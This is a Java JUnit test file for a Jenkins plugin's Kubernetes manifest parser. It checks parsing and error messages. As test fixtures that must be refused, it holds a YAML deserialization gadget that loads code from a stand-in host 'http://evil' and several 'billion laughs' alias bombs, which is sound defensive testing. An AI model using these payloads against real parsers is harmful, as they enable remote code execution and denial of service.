package io.jenkins.plugins.k8sdeploy.engine.manifest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jenkins.plugins.k8sdeploy.engine.base.DeployException;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class ManifestParserTest {

    static List<Manifest> parse(String yaml) throws DeployException {
        return ManifestParser.parse(new ManifestSource("k8s/app.yaml", yaml));
    }

    @Test
    void multiDocumentStreamGivesEveryObjectWithItsLine() throws DeployException {
        List<Manifest> ms = parse("""
                # leading comment
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: cfg}
                ---
                ---
                apiVersion: apps/v1
                kind: Deployment
                metadata:
                  name: web
                  namespace: shop
                """);

        assertEquals(2, ms.size(), "the empty document is skipped");
        assertEquals("ConfigMap/cfg", ms.get(0).describe());
        assertEquals("Deployment/web in shop", ms.get(1).describe());
        assertEquals("apps", ms.get(1).group());
        assertEquals("k8s/app.yaml:7", ms.get(1).origin());
    }

    @Test
    void aKindListIsFlattened() throws DeployException {
        List<Manifest> ms = parse("""
                apiVersion: v1
                kind: List
                items:
                - {apiVersion: v1, kind: Service, metadata: {name: a}}
                - {apiVersion: v1, kind: Service, metadata: {name: b}}
                """);

        assertEquals(List.of("Service/a", "Service/b"), ms.stream().map(Manifest::describe).toList());
    }

    @Test
    void jsonIsAcceptedToo() throws DeployException {
        List<Manifest> ms = parse("{\"apiVersion\": \"v1\", \"kind\": \"Secret\", \"metadata\": {\"name\": \"s\"}}");

        assertEquals("Secret/s", ms.get(0).describe());
    }

    @Test
    void javaTypeTagsAreRefusedAndConstructNothing() {
        DeployException e = assertThrows(DeployException.class, () -> parse("""
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: cfg}
                data:
                  x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil"]]]]
                """));

        assertEquals("k8s/app.yaml is not valid YAML: Global tag is not allowed:"
                + " tag:yaml.org,2002:javax.script.ScriptEngineManager (line 5). Nothing was applied.", e.getMessage());
    }

    @Test
    void anchorsAndMergeKeysWork() throws DeployException {
        List<Manifest> ms = parse("""
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: cfg}
                data:
                  base: &base {a: "1", b: "2"}
                  copy: *base
                  merged:
                    <<: *base
                    b: "3"
                """);

        Map<?, ?> data = (Map<?, ?>) ms.get(0).body().get("data");
        assertEquals(Map.of("a", "1", "b", "2"), data.get("copy"));
        assertEquals(Map.of("a", "1", "b", "3"), data.get("merged"));
    }

    @Test
    void aliasBombIsRefused() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(9, "*" + p))).append("]\n");
        }
        DeployException e = assertThrows(DeployException.class, () -> parse(bomb.toString()));

        assertEquals("k8s/app.yaml uses more than 50 YAML aliases, the mark of an alias bomb (\"billion laughs\")."
                + " Nothing was applied. Expected plain manifests.", e.getMessage());
    }

    /** 100 kB of text: one 50,000-character value used 10,000 times is 500 million characters once sent. */
    @Test
    void scalarAliasesThatExpandPastTheLimitAreRefusedAtTheirLine() {
        String bomb = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:\n  x: &x \"" + "a".repeat(50_000)
                + "\"\n  y: [" + String.join(",", Collections.nCopies(10_000, "*x")) + "]\n";

        DeployException e = assertThrows(DeployException.class,
                () -> assertTimeoutPreemptively(Duration.ofSeconds(5), () -> parse(bomb)));

        assertEquals("k8s/app.yaml expands through YAML aliases to more than 12582912 characters (line 6), the mark of"
                + " an alias bomb (\"billion laughs\"). Nothing was applied. Expected plain manifests.", e.getMessage());
    }

    /** 42 aliases of collections, under the alias limit, doubling 21 times: 4 million values. */
    @Test
    void fewCollectionAliasesThatDoubleAtEveryLevelAreRefused() {
        StringBuilder bomb = new StringBuilder("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:\n"
                + "  l0: &l0 [x, x]\n");
        for (int i = 1; i <= 21; i++) {
            bomb.append("  l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l")
                    .append(i - 1).append("]\n");
        }

        DeployException e = assertThrows(DeployException.class,
                () -> assertTimeoutPreemptively(Duration.ofSeconds(5), () -> parse(bomb.toString())));

        assertEquals("k8s/app.yaml expands through YAML aliases to more than 3145728 values (line 5), the mark of"
                + " an alias bomb (\"billion laughs\"). Nothing was applied. Expected plain manifests.", e.getMessage());
    }

    /** Each level 90 deep in the text, 2 levels through aliases: 180 deep once written out. */
    @Test
    void aliasesThatNestDeeperThanTheNestingLimitAreRefused() {
        String deep = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: deep}\ndata:\n"
                + "  l0: &l0 " + "[".repeat(90) + "x" + "]".repeat(90) + "\n"
                + "  l1: " + "[".repeat(90) + "*l0" + "]".repeat(90) + "\n";

        DeployException e = assertThrows(DeployException.class, () -> parse(deep));

        assertEquals("k8s/app.yaml nests more than 100 levels deep through YAML aliases (line 6). Nothing was applied."
                + " Expected plain manifests.", e.getMessage());
    }

    @Test
    void anAliasInsideTheCollectionItNamesIsRefused() {
        DeployException e = assertThrows(DeployException.class, () -> parse(
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: loop}\ndata:\n  x: &x [a, *x]\n"));

        assertEquals("k8s/app.yaml holds a YAML alias inside the collection it names (line 5), which never ends when"
                + " written out. Nothing was applied. Expected plain manifests.", e.getMessage());
    }

    /**
     * A 2.8 MB bundle of CRDs whose second versions reuse the first's schema through an alias (4.5 million characters
     * written out) is read whole.
     */
    @Test
    void aLargeBundleWithAFewAliasesIsRead() throws DeployException {
        StringBuilder bundle = new StringBuilder();
        String properties = IntStream.range(0, 600).mapToObj(i -> "          field" + i + ": {type: string,"
                + " description: \"The field number " + i + " of this resource, described at some length.\"}\n")
                .collect(Collectors.joining());
        for (int i = 0; i < 40; i++) {
            bundle.append("---\napiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\n")
                    .append("metadata: {name: things").append(i).append(".example.com}\nspec:\n")
                    .append("  group: example.com\n  names: &names {kind: Thing, plural: things}\n  scope: Namespaced\n")
                    .append("  versions:\n  - name: v1\n    schema: &schema\n      openAPIV3Schema:\n")
                    .append("        type: object\n        properties:\n").append(properties)
                    .append("  - name: v2\n    schema: *schema\n");
        }
        assertTrue(bundle.length() > 2 * 1024 * 1024 && bundle.length() < ManifestParser.MAX_SOURCE_CHARS,
                "size " + bundle.length());

        List<Manifest> ms = parse(bundle.toString());

        assertEquals(40, ms.size());
    }

    @Test
    void aTwentyMegabyteDocumentIsRefusedBeforeParsing() {
        String huge = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata:\n  x: \"" + "a".repeat(20 * 1024 * 1024) + "\"\n";
        DeployException e = assertThrows(DeployException.class, () -> parse(huge));

        assertEquals("k8s/app.yaml is larger than 3 MiB, the most the API server accepts in one request, so it was"
                + " not read. Expected Kubernetes manifests, not data.", e.getMessage());
    }

    @Test
    void missingKindAndNameAreNamed() {
        DeployException e = assertThrows(DeployException.class, () -> parse("apiVersion: v1\nmetadata: {}\n"));

        assertEquals("k8s/app.yaml:1 has no kind, metadata.name. Expected every object to have apiVersion, kind and"
                + " metadata.name (generateName cannot be applied repeatably).", e.getMessage());
    }

    @Test
    void brokenYamlSaysWhereAndThatNothingWasApplied() {
        DeployException e = assertThrows(DeployException.class,
                () -> parse("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a\n"));

        assertTrue(e.getMessage().startsWith("k8s/app.yaml is not valid YAML: "), e.getMessage());
        assertTrue(e.getMessage().endsWith("Nothing was applied."), e.getMessage());
    }

    @Test
    void duplicateKeysAreAnError() {
        DeployException e = assertThrows(DeployException.class,
                () -> parse("apiVersion: v1\nkind: ConfigMap\nkind: Secret\nmetadata: {name: a}\n"));

        assertTrue(e.getMessage().contains("kind"), e.getMessage());
    }

    @Test
    void aScalarDocumentIsNotAnObjectAndItsTextIsNotShown() {
        DeployException e = assertThrows(DeployException.class, () -> parse(
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n---\nghp_Tok3nPastedByMistake0123456789\n"));

        assertEquals("k8s/app.yaml:5 (document 2) is not a Kubernetes object: expected a mapping with apiVersion, kind"
                + " and metadata, found a single value (its text is not shown). Nothing was applied.", e.getMessage());
    }

    @Test
    void timestampsStayText() throws DeployException {
        List<Manifest> ms = parse("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata: {released: 2024-01-01}\n");

        assertEquals("2024-01-01", ((Map<?, ?>) ms.get(0).body().get("data")).get("released"));
    }
}
